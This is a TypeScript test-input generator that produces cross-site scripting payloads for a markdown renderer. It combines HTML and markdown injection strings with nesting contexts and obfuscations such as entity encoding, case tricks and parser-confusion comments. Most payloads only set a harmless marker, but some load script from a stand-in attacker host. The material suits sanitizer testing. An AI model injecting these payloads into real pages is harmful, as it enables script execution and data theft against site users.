// Generated attacks on a markdown renderer: everything that runs script in some browser, inside everything that
// markdown and HTML can contain, and then obfuscated.
import { createHash } from "node:crypto";

/** Each would set window.pwned if a browser executed it. */
const run = "window.pwned=1";

const tags = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"></use></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<body onload=${run}>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<video><source onerror=${run}></video>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<keygen autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="jAvAsCrIpT:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `<a href="javascript&colon;${run}">x</a>`,
  `<a href=" javascript:${run}">x</a>`,
  `<a href="\u0001javascript:${run}">x</a>`,
  `<a href="vbscript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="//evil.example" target=_blank ping=//evil.example>x</a>`,
  `<a href="blob:https://x/y">x</a>`,
  `<a href=x onclick=${run}>x</a>`,
  `<base href="javascript:/a/-${run}//">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<style>@import '//evil.example/x.css';*{background:url(javascript:${run})}</style>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `<table background="javascript:${run}"><tr><td>x</table>`,
  `<img src="javascript:${run}">`,
  `<img srcset="x 1x, javascript:${run} 2x">`,
  `<img src="http://evil.example/pixel.gif">`,
  `<img dynsrc="javascript:${run}" lowsrc="javascript:${run}">`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<x onclick=${run} tabindex=1 autofocus onfocus=${run}>x</x>`,
  `<custom-element onmouseover=${run}>x</custom-element>`,
  `<div id=main name=cookie>clobber</div>`,
  `<form id=document><input name=cookie></form>`,
  `<a id=x><a id=x name=y href="cid:${run}">`,
  `<img name=getElementById>`,
  `<portal src="javascript:${run}"></portal>`,
  `<button popovertarget=x onclick=${run}>x</button><div popover id=x onbeforetoggle=${run}>x</div>`,
  `<dialog open oncancel=${run}>x</dialog>`,
  `<p contenteditable onpaste=${run} is=x>x</p>`,
  `<ruby oncopy=${run}><rt>x</ruby>`,
  `<slot onslotchange=${run}>x</slot>`,
  `<h1 id="main" onclick=${run}>x</h1>`,
  `<details><summary onclick=${run}>x</summary></details>`,
  `<code class="language-x" onmouseover=${run} x="">x</code>`,
  `<span class="hljs-x&quot; onmouseover=${run}">x</span>`,
  `<td align="x" onclick=${run}>x`,
  `<ol start="1" onclick=${run}><li>x</ol>`,
];

const markdown = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](javascript&colon;${run})`,
  `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run})`,
  `[x](<javascript:${run}>)`,
  `[x]( javascript:${run} "t")`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${run})`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example)`,
  `[x](\\\\evil.example)`,
  `[x](https://a" onmouseover="${run})`,
  `[x](https://a 'x" onmouseover="${run}')`,
  `![x](javascript:${run})`,
  `![x" onerror="${run}](https://evil.example/x.png)`,
  `![x](https://cdn.example/cdn/data/user/a/b.png"onerror="${run})`,
  `![x](https://cdn.example/cdn/data/user/a/b.png "x\\" onerror=${run}")`,
  `<javascript:${run}>`,
  `<https://a.b/"onclick=${run}>`,
  `https://a.b/"onclick="${run}`,
  `[x]: javascript:${run}\n\n[x]`,
  `[x]: https://a.b "x\\" onclick=${run}"\n\n[x]`,
  `\`\`\`html" onmouseover="${run}\nx\n\`\`\``,
  `\`\`\`\n</code></pre><img src=x onerror=${run}>\n\`\`\``,
  `\`\`\`xml\n</code><script>${run}</script>\n\`\`\``,
  `\`</code><img src=x onerror=${run}>\``,
  `    </code></pre><img src=x onerror=${run}>`,
  `- [x] <img src=x onerror=${run}>`,
  `# <img src=x onerror=${run}>`,
  `# x" onclick="${run}`,
  `|a|\n|:-" onclick=${run}|\n|<img src=x onerror=${run}>|`,
  `~~<img src=x onerror=${run}>~~`,
];

type Wrap = (payload: string) => string;

/** Contexts in which a parser may read a payload differently. */
const contexts: Wrap[] = [
  (x) => x,
  (x) => `text ${x} text`,
  (x) => `> ${x}`,
  (x) => `- ${x}`,
  (x) => `# ${x}`,
  (x) => `| a |\n|---|\n| ${x} |`,
  (x) => `<div>\n\n${x}\n\n</div>`,
  (x) => `<details><summary>${x}</summary>\n\n${x}\n\n</details>`,
  (x) => `[${x}](https://a.b)`,
  (x) => `![${x}](https://cdn.example/cdn/data/user/a/b.webp)`,
  (x) => `<p title="${x}">`,
  (x) => `<a href='${x}'>y</a>`,
  (x) => `<b><i>${x}</b></i>`,
  (x) => `<table>${x}<tr><td>${x}`,
  (x) => `<svg><style>${x}</style></svg>`,
  (x) => `<math><annotation-xml encoding="text/html">${x}</annotation-xml></math>`,
  (x) => `<select><option>${x}</select>`,
  (x) => `<!--${x}-->`,
  (x) => `*${x}*`,
  (x) => `\`\`\`xml\n${x}\n\`\`\``,
];

/** Obfuscations that some parser decodes. */
const mutations: Wrap[] = [
  (x) => x.toUpperCase(),
  (x) => x.replaceAll("<", "<\u0000").replaceAll("\u0000", "\u200b"),
  (x) => x.replaceAll(" ", "/"),
  (x) => x.replaceAll(" ", "\n"),
  (x) => x.replaceAll("=", " = "),
  (x) => x.replaceAll(">", " >"),
  (x) => x.replaceAll('"', "`"),
  (x) => x.replaceAll("<", "<<"),
  (x) => x.replaceAll("script", "scr\u00adipt"),
  (x) => x.replaceAll("<", "&lt;"),
  (x) => x.replaceAll("<", "\\<"),
  (x) => x + x,
  (x) => x.slice(0, -1),
  (x) => x.replaceAll("javascript", "java\nscript"),
  (x) => x.replaceAll("j", "&#0000106"),
  (x) => `</p></div></main>${x}`,
  (x) => `<p><!--${x}`,
];

/** The requested number, each once, always the same: first all payloads unchanged, then random ones. */
export function attacks(count: number): string[] {
  const payloads = [...tags, ...markdown];
  const made = new Set<string>(payloads);
  for (let step = 0; made.size < count && step < count * 20; step++) {
    const lot = createHash("sha256").update(`attack ${step}`).digest();
    const pick = <T>(list: readonly T[], at: number): T => list[lot.readUInt32LE(at) % list.length]!;
    let text = pick(payloads, 0);
    if (lot[20]! % 2 === 0) text = pick(mutations, 4)(text);
    text = pick(contexts, 8)(text);
    if (lot[21]! % 3 === 0) text = pick(contexts, 12)(`${text} ${pick(payloads, 16)}`);
    made.add(text);
  }
  return [...made];
}
